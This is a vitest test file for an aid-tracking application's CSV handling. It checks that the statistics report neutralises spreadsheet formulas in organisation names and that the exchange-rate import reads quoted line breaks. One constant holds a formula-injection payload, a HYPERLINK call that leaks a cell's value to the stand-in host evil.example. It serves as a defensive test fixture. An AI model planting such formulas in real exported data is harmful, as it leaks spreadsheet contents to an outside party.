import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildAidItem, buildOrganisation } from '@modules/aid/aid.fixtures';
import { createTestContext, type Session, type TestContext } from '../../test/support/test-app';
import { runPendingJobs } from '../jobs/worker';

/**
 * CSV outputs and inputs through the one CSV module (issue 11, defect 11): a formula in an organisation name comes
 * out neutralised in the statistics report, negative money does not; a quoted line break in a rate file imports.
 */
let t: TestContext;
let dataDir: string;
let admin: Session;
const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Cứu trợ")';

beforeAll(async () => {
  t = await createTestContext();
  dataDir = mkdtempSync(path.join(os.tmpdir(), 'vnaid-csv-'));
  admin = await t.signInAs('admin');
  const org = await buildOrganisation(t.db, { name: HOSTILE });
  const item = await buildAidItem(t.db, { organisation_id: org.id });
  await t.db
    .insertInto('aid_transactions')
    .values([
      {
        aid_item_id: item.id,
        kind: 'DISBURSEMENT',
        tx_date: '2024-05-01',
        amount: '10.00',
        currency: 'USD',
        amount_usd: '10.00',
        amount_vnd: '254000',
      },
      {
        aid_item_id: item.id,
        kind: 'DISBURSEMENT',
        tx_date: '2023-06-01',
        amount: '40.00',
        currency: 'USD',
        amount_usd: '40.00',
        amount_vnd: '960000',
      },
    ])
    .execute();
});
afterAll(async () => {
  await t?.close();
  if (dataDir) rmSync(dataDir, { recursive: true, force: true });
});

describe('the statistics report CSV', () => {
  it('neutralises an organisation name that a spreadsheet would run as a formula, and leaves numbers (a fall of 75 %) as they are', async () => {
    const queued = await t.call(admin, {
      method: 'POST',
      url: '/api/stats/reports',
      payload: { year: 2024, format: 'csv', kind: 'national' },
    });
    expect(queued.statusCode).toBe(202);
    await runPendingJobs(t.db, dataDir);
    const status = (await t.call(admin, { method: 'GET', url: `/api/jobs/${queued.json().jobId}` })).json();
    expect(status.status).toBe('done');
    const csv = (await t.call(admin, { method: 'GET', url: status.downloadUrl })).body;
    const line = csv.split('\r\n').find((l) => l.includes('HYPERLINK'));
    expect(line).toBeDefined();
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Cứu trợ"")"`);
    expect(line).not.toMatch(/,"?=HYPERLINK/);
    expect(line).toMatch(/,10\.00(,|$)/);
    expect(csv).toMatch(/\r\n[^\r\n]*,10\.00,40\.00,-75(\.0+)?(\r\n|,)/);
  });
});

describe('the exchange-rate CSV import', () => {
  it('reads a quoted cell holding a line break as one record, and numbers its lines as the file does', async () => {
    const csv =
      'currency,date,usd_per_unit,vnd_per_unit\r\n"EUR\r\n",2025-08-01,1.16,29400\r\nGBP,2025-08-01,1.34,33900\r\nXXX,2025-08-01,1,1\r\n';
    const rejected = await t.call(admin, { method: 'POST', url: '/api/exchange-rates/import', payload: { csv } });
    expect(rejected.statusCode).toBe(422);
    expect(rejected.json().error.details.errors).toEqual([expect.objectContaining({ line: 5, field: 'currency' })]);
    const accepted = await t.call(admin, {
      method: 'POST',
      url: '/api/exchange-rates/import',
      payload: { csv: csv.replace('XXX,2025-08-01,1,1\r\n', '') },
    });
    expect(accepted.statusCode).toBe(200);
    expect(accepted.json().rates).toBe(2);
    const listed = (await t.call(admin, { method: 'GET', url: '/api/exchange-rates?currency=EUR&year=2025' })).json();
    expect(listed.items).toContainEqual(expect.objectContaining({ currency: 'EUR', date: '2025-08-01', usdPerUnit: '1.16' }));
  });
});
